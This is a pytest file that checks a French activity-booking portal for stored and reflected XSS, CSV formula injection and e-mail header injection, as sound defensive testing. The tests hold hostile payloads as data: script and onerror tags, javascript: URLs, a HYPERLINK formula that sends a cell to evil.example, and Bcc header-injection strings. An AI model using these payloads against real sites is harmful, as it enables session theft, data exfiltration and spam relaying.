"""Attacks (issue 13): stored and reflected XSS, CSV (formula) injection and e-mail header
injection through every text a member or a staff member types.

The world, built through the pages: staff of CMCAS Berry-Nivernais create and publish an
activity whose title, description, place and option label are hostile; a member gives a
hostile billing address, registers with a guest whose names are hostile and hostile
observations, pays at the desk, where staff write a hostile note; staff cancel another
member's registration with a hostile reason. Then every page that shows those texts is
parsed (no element, attribute, inline script or javascript: URL came from them, and the
text is shown as typed), the invoice PDF shows them literally (pdftotext), the CSV export
neutralises formulas, and every e-mail sent has no injected header and an HTML part with
nothing injected. Reflected: the catalog search and a refused form's values shown again.
Text with a line break or a control character where one line is expected is refused
(400/409) or flattened, never copied into a header. Both engines."""

import email
import email.policy
import glob
import os
import re
import subprocess
import time

import pytest

from cmcas_httpd import BN_BLOCK, GEN_DIR, REPO, CmcasHttpd, cmcas_block
from cmcas_pages import parse_html
from test_7_helpers import cheap_hash
from test_13_helpers import (BN_STAFF, GAEL, MARTINE, desk_order, page_token, session,
                             staff_token, today_fr, validated_registration)
from test_1010_staff_activity import NEW, browser_fields

SCRIPT = "<script>alert(1)</script>"
IMG = '"><img src=x onerror=alert(1)>'
TPL = "{{7*7}}${7*7}"
JS = "javascript:alert(1)"
RTL = "abc\u202etxt.exe"
HOSTILE = SCRIPT + IMG + TPL             # 66 characters: fits every text field
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"clic")'

CTL = os.path.join(GEN_DIR, "test_1320_attack_xss-ctl")
MAIL_DIR = os.path.join(CTL, "mail")
WRAPPER = os.path.join(CTL, "sendmail")


def write_wrapper():
    os.makedirs(MAIL_DIR, exist_ok=True)
    with open(WRAPPER, "w") as f:
        f.write(f"#!/bin/sh\nexec {REPO}/scripts/cmcas-mail-to-folder {MAIL_DIR} \"$@\"\n")
    os.chmod(WRAPPER, 0o755)
    if os.geteuid() == 0:
        import pwd
        pw = pwd.getpwnam("www-data")
        for d in (CTL, MAIL_DIR):
            os.chown(d, pw.pw_uid, pw.pw_gid)


def sections(portal):
    """Both CMCAS with their e-mail settings; BN's portal URL is this server's own (where
    the module's redirects go: never the Host header)."""
    return {"cmcas": BN_BLOCK.replace(
        "</CMCAS>", f"    CMCASPortalURL {portal}\n</CMCAS>")
        + cmcas_block("TOURAINE", "CMCAS Touraine", email="contact@cmcas-touraine.example")
        .replace("</CMCAS>", "    CMCASPortalURL https://activites.cmcas-touraine.example/\n"
                             "</CMCAS>")}


@pytest.fixture(scope="module")
def server(start_server):
    """The portal, its e-mails kept in MAIL_DIR (the command must exist at start)."""
    write_wrapper()
    s = CmcasHttpd("test_1320_attack_xss-mail",
                   extra=f'CMCASMailCommand "{WRAPPER} -t -i"\nCMCASMailInterval 1\n')
    s.sections.update(sections(s.base_url + "/"))
    return start_server(s)


# ----------------------------------------------------------------------------------
# What an injection would look like


def injected(doc):
    """What in a parsed page could come from an injection: inline scripts, event
    handler attributes, the payload's <img>, javascript: URLs, template evaluation."""
    bad = []
    for n in doc.iter():
        if n.tag == "script" and (not n.attrs.get("src") or n.raw_text.strip()):
            bad.append(("inline script", n.raw_text[:80]))
        for k, v in n.attrs.items():
            if k.startswith("on"):
                bad.append(("handler", n.tag, k, v))
            if k in ("href", "src", "action", "formaction") and v and \
                    v.strip().lower().startswith("javascript:"):
                bad.append(("javascript: url", n.tag, k, v))
        if n.tag == "img" and n.attrs.get("src") == "x":
            bad.append(("payload img", n.attrs))
    text = doc.raw_text
    if any(t in text for t in ("49${7*7}", "{{7*7}}49", "4949")):
        bad.append(("template evaluated",))
    return bad


def check_page(s, url, must_show=()):
    r = s.get(url, headers={"Accept": "text/html"}, allow_redirects=False, timeout=30)
    assert r.status_code in (200, 400, 409), (url, r.status_code)
    doc = parse_html(r.text)
    assert injected(doc) == [], (url, injected(doc))
    shown = doc.raw_text + "\n".join(v or "" for n in doc.iter() for v in n.attrs.values())
    for text in must_show:
        assert text in shown, (url, text)
    return r


# ----------------------------------------------------------------------------------
# The world


@pytest.fixture(scope="module")
def world(server):
    server.sql("UPDATE household SET password = ?", (cheap_hash(),))
    server.sql("UPDATE cmcas_staff SET password = ?", (cheap_hash(),))
    for f in glob.glob(os.path.join(MAIL_DIR, "*.eml")):
        os.unlink(f)
    w = {}
    with session(*BN_STAFF) as bn:
        doc = bn.get(server.url("/gestion/activites/nouvelle"),
                     headers={"Accept": "application/xml"}).content
        import xml.etree.ElementTree as ET
        fields = browser_fields(ET.fromstring(doc), **dict(
            NEW, title="Atelier " + HOSTILE, place=IMG + JS,
            description=HOSTILE + "\r\n\r\n" + JS + " " + RTL,
            **{"option.1.label": "Entrée " + SCRIPT, "option.2.label": TPL}))
        r = bn.post(server.url("/gestion/activites/nouvelle"), data=fields,
                    allow_redirects=False)
        assert r.status_code == 303, r.text[:2000]
        w["aid"] = aid = int(re.search(r"/activite/(\d+)\?", r.headers["Location"]).group(1))
        tok = staff_token(bn, server)
        r = bn.post(server.url(f"/gestion/activite/{aid}/publier"),
                    data={"csrf": tok, "action": "publier"}, allow_redirects=False)
        assert r.status_code == 303
        # published from yesterday: it is in the catalog whatever the time zone
        server.sql("UPDATE activity SET published_at = ? WHERE id = ?",
                   (server.sql("SELECT published_at FROM activity WHERE id = 1")[0][0], aid))
    with session(GAEL) as g:
        tok = page_token(g, server.url("/mes-adresses"))
        r = g.post(server.url("/mes-adresses"), allow_redirects=False,
                   data={"csrf": tok, "rue1": HOSTILE, "rue2": IMG, "code_postal": "18000",
                         "ville": SCRIPT, "pays": ""})
        assert r.status_code == 303, r.text[:1000]
        w["reg"], tok = validated_registration(server, g, activity=aid,
                                               guest=(SCRIPT, IMG, "12/03/1971"))
        # the observations, hostile twice: HTML and a formula
        path = f"/activite/{aid}/inscription"
        ids = [str(r[0]) for r in server.sql(
            "SELECT id FROM registration_person WHERE registration_id = ?", (w["reg"],))]
        opt = server.sql("SELECT min(id) FROM activity_option WHERE activity_id = ?",
                         (aid,))[0][0]
        data = {"csrf": tok, "action": "enregistrer", "participant": ids,
                "observations": FORMULA + "\n" + HOSTILE}
        for i in ids:
            data["options-" + i] = str(opt)
        r = g.post(server.url(path), data=data, allow_redirects=False)
        assert r.status_code == 303, r.text[:1000]
        w["ref"] = desk_order(server, g, w["reg"], tok)
    assert server.sql("SELECT last_name, first_name FROM registration_person "
                      "WHERE registration_id = ? AND person_id IS NULL",
                      (w["reg"],)) == [(SCRIPT, IMG)]
    with session(*BN_STAFF) as bn:
        tok = staff_token(bn, server)
        total = server.sql("SELECT total FROM cmcas_order WHERE reference = ?",
                           (w["ref"],))[0][0]
        r = bn.post(server.url(f"/gestion/commande/{w['ref']}/paiement"),
                    data={"csrf": tok, "moyen": "cheque", "date": today_fr(),
                          "montant": "%d,%02d" % divmod(total, 100), "note": HOSTILE},
                    allow_redirects=False)
        assert r.status_code == 303, r.text[:1000]
    with session(MARTINE) as m:
        w["reg_m"], _ = validated_registration(server, m, activity=aid, guest=None)
    with session(*BN_STAFF) as bn:
        r = bn.post(server.url(f"/gestion/inscription/{w['reg_m']}/annuler"),
                    data={"csrf": staff_token(bn, server), "motif": HOSTILE},
                    allow_redirects=False)
        assert r.status_code == 303, r.text[:1000]
    return w


# ----------------------------------------------------------------------------------
# Pages


def member_pages(w):
    aid, reg, ref = w["aid"], w["reg"], w["ref"]
    return [("/?q=onerror", ["Atelier " + HOSTILE]), ("/?theme=CULTURE", []),
            (f"/activite/{aid}", ["Atelier " + HOSTILE, HOSTILE, IMG + JS]),
            (f"/activite/{aid}/inscription", [SCRIPT, IMG, "Entrée " + SCRIPT]),
            ("/mes-inscriptions", ["Atelier " + HOSTILE]),
            (f"/mes-inscriptions/{reg}", [SCRIPT, IMG]),
            ("/mes-commandes", []),
            (f"/mes-commandes/{ref}", [SCRIPT]),
            ("/mes-adresses", [HOSTILE, SCRIPT]),
            ("/mes-informations", [])]


def staff_pages(w):
    aid = w["aid"]
    return [("/gestion/", ["Atelier " + HOSTILE]),
            (f"/gestion/activite/{aid}", ["Atelier " + HOSTILE, "Entrée " + SCRIPT]),
            (f"/gestion/activite/{aid}/inscriptions?statut=toutes", [SCRIPT, IMG]),
            ("/gestion/commandes", []),
            ("/gestion/journal", [HOSTILE]),
            (f"/gestion/inscription/{w['reg']}/modifier", [SCRIPT])]


def test_member_pages_show_the_texts_and_inject_nothing(server, world):
    with session(GAEL) as g:
        for path, shown in member_pages(world):
            check_page(g, server.url(path), shown)
    with session(MARTINE) as m:     # the hostile reason of the cancellation
        check_page(m, server.url(f"/mes-inscriptions/{world['reg_m']}"), [])


def test_staff_pages_show_the_texts_and_inject_nothing(server, world):
    with session(*BN_STAFF) as bn:
        for path, shown in staff_pages(world):
            r = bn.get(server.url(path), allow_redirects=False, timeout=30)
            if r.status_code == 409:        # a registration not paid: no form
                continue
            check_page(bn, server.url(path), shown)


@pytest.mark.parametrize("q", [SCRIPT, IMG, JS, TPL, RTL, "'\"<>&;--", "\u0085<x>"])
def test_the_search_reflects_nothing(server, world, q):
    with session(GAEL) as g:
        r = check_page(g, server.url("/"), [])
        r = g.get(server.url("/"), params={"q": q}, headers={"Accept": "text/html"},
                  timeout=30)
        assert r.status_code in (200, 400)
        doc = parse_html(r.text)
        assert injected(doc) == []
        box = doc.find("input", id="q")
        if r.status_code == 200:
            assert box is not None and box.attrs.get("value") == q, box and box.attrs


@pytest.mark.parametrize("field,value", [("email", IMG + "@x.org"), ("email", SCRIPT),
                                         ("telephone", IMG), ("email", "a@b.org\r\nBcc: x@y.z")])
def test_a_refused_account_form_shows_the_values_escaped(server, world, field, value):
    with session(GAEL) as g:
        tok = page_token(g, server.url("/mes-informations"))
        data = {"csrf": tok, "email": "gael.classen@example.org", "telephone": ""}
        data[field] = value
        before = server.sql("SELECT email, phone FROM household WHERE login = ?", (GAEL,))
        r = g.post(server.url("/mes-informations"), data=data, allow_redirects=False)
        assert r.status_code == 400, (r.status_code, r.text[:500])
        assert injected(parse_html(r.text)) == []
        assert server.sql("SELECT email, phone FROM household WHERE login = ?",
                          (GAEL,)) == before


def test_a_refused_guest_shows_the_values_escaped(server, world):
    with session(GAEL) as g:
        path = f"/activite/{world['aid']}/inscription"
        tok = page_token(g, server.url("/mes-informations"))
        r = g.post(server.url(path), allow_redirects=False,
                   data={"csrf": tok, "action": "ajouter", "personne": "invite",
                         "invite-nom": IMG, "invite-prenom": SCRIPT,
                         "invite-naissance": IMG})
        assert r.status_code in (400, 409), r.status_code
        assert injected(parse_html(r.text)) == []


# ----------------------------------------------------------------------------------
# PDF, CSV


def test_the_invoice_pdf_shows_the_texts_literally(server, world):
    with session(GAEL) as g:
        r = g.get(server.url(f"/mes-commandes/{world['ref']}/facture.pdf"), timeout=30)
    assert r.status_code == 200 and r.content.startswith(b"%PDF")
    text = subprocess.run(["pdftotext", "-layout", "-", "-"], input=r.content,
                          capture_output=True, check=True, timeout=60).stdout.decode()
    flat = re.sub(r"\s+", " ", text)
    for shown in (SCRIPT, "Atelier " + SCRIPT):
        assert shown in flat, (shown, flat[:2000])
    assert "&lt;" not in flat and "&quot;" not in flat      # not HTML-escaped twice


def test_the_csv_neutralises_formulas(server, world):
    with session(*BN_STAFF) as bn:
        r = bn.get(server.url(f"/gestion/activite/{world['aid']}/inscriptions.csv"
                              "?statut=toutes"), timeout=30)
    assert r.status_code == 200
    import csv
    import io
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig")), delimiter=";"))
    cells = [c for row in rows[1:] for c in row]
    assert any(c.startswith("'" + FORMULA) for c in cells), cells
    for c in cells:
        assert not c[:1] in ("=", "+", "-", "@", "\t", "\r"), c
    assert SCRIPT in cells and IMG in cells      # as typed: a CSV is not HTML


# ----------------------------------------------------------------------------------
# E-mails


def messages():
    out = []
    for path in sorted(glob.glob(os.path.join(MAIL_DIR, "*.eml"))):
        with open(path, "rb") as f:
            out.append((f.read(), path))
    return out


def test_emails_have_no_injected_header_and_escape_their_html(server, world):
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:
        pending = server.sql("SELECT count(*) FROM cmcas_outbox WHERE sent_at IS NULL")[0][0]
        if pending == 0 and messages():
            break
        time.sleep(0.2)
    got = messages()
    assert got, "no e-mail sent"
    seen_hostile = False
    for raw, path in got:
        head = raw.split(b"\r\n\r\n", 1)[0] if b"\r\n\r\n" in raw else raw.split(b"\n\n")[0]
        names = [line.split(b":", 1)[0].lower() for line in re.split(rb"\r?\n", head)
                 if line and not line[:1].isspace()]
        assert b"bcc" not in names and names.count(b"to") == 1, (path, names)
        msg = email.message_from_bytes(raw, policy=email.policy.default)
        assert "\n" not in str(msg["Subject"]) and "\r" not in str(msg["Subject"])
        html = msg.get_body(preferencelist=("html",))
        if html is not None:
            doc = parse_html(html.get_content())
            assert injected(doc) == [], (path, injected(doc))
            seen_hostile |= SCRIPT in doc.raw_text
        text = msg.get_body(preferencelist=("plain",))
        if text is not None:
            seen_hostile |= SCRIPT in text.get_content()
    assert seen_hostile, "no e-mail carried the hostile texts: nothing was tested"


@pytest.mark.parametrize("title", ["Titre\r\nBcc: victim@evil.example",
                                   "Titre\nX-Injected: 1", "Titre\u0000nul"])
def test_a_title_with_a_line_break_is_refused_or_flattened(server, world, title):
    with session(*BN_STAFF) as bn:
        import xml.etree.ElementTree as ET
        doc = ET.fromstring(bn.get(server.url(f"/gestion/activite/{world['aid']}"),
                                   headers={"Accept": "application/xml"}).content)
        fields = browser_fields(doc, title=title)
        r = bn.post(server.url(f"/gestion/activite/{world['aid']}"), data=fields,
                    allow_redirects=False)
        assert r.status_code in (303, 400, 409), r.status_code
        stored = server.sql("SELECT title FROM activity WHERE id = ?", (world["aid"],))[0][0]
        assert "\n" not in stored and "\r" not in stored and "\x00" not in stored, stored
        if r.status_code == 303:    # put the hostile title back for the other tests
            fields = browser_fields(doc, title="Atelier " + HOSTILE)
            fields["csrf"] = staff_token(bn, server)
            assert bn.post(server.url(f"/gestion/activite/{world['aid']}"), data=fields,
                           allow_redirects=False).status_code == 303


def test_the_detector_sees_what_it_looks_for():
    """The checks above can fail: the payloads, unescaped, are found."""
    for raw in (f"<p>{SCRIPT}</p>", f'<input value="{IMG}">', f'<a href="{JS}">x</a>',
                "<p>4949</p>"):
        assert injected(parse_html(raw)) != [], raw
    assert injected(parse_html('<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>'
                               '<input value="&quot;&gt;&lt;img src=x onerror=alert(1)&gt;">'
                               '<script src="/static/x.js"></script>')) == []
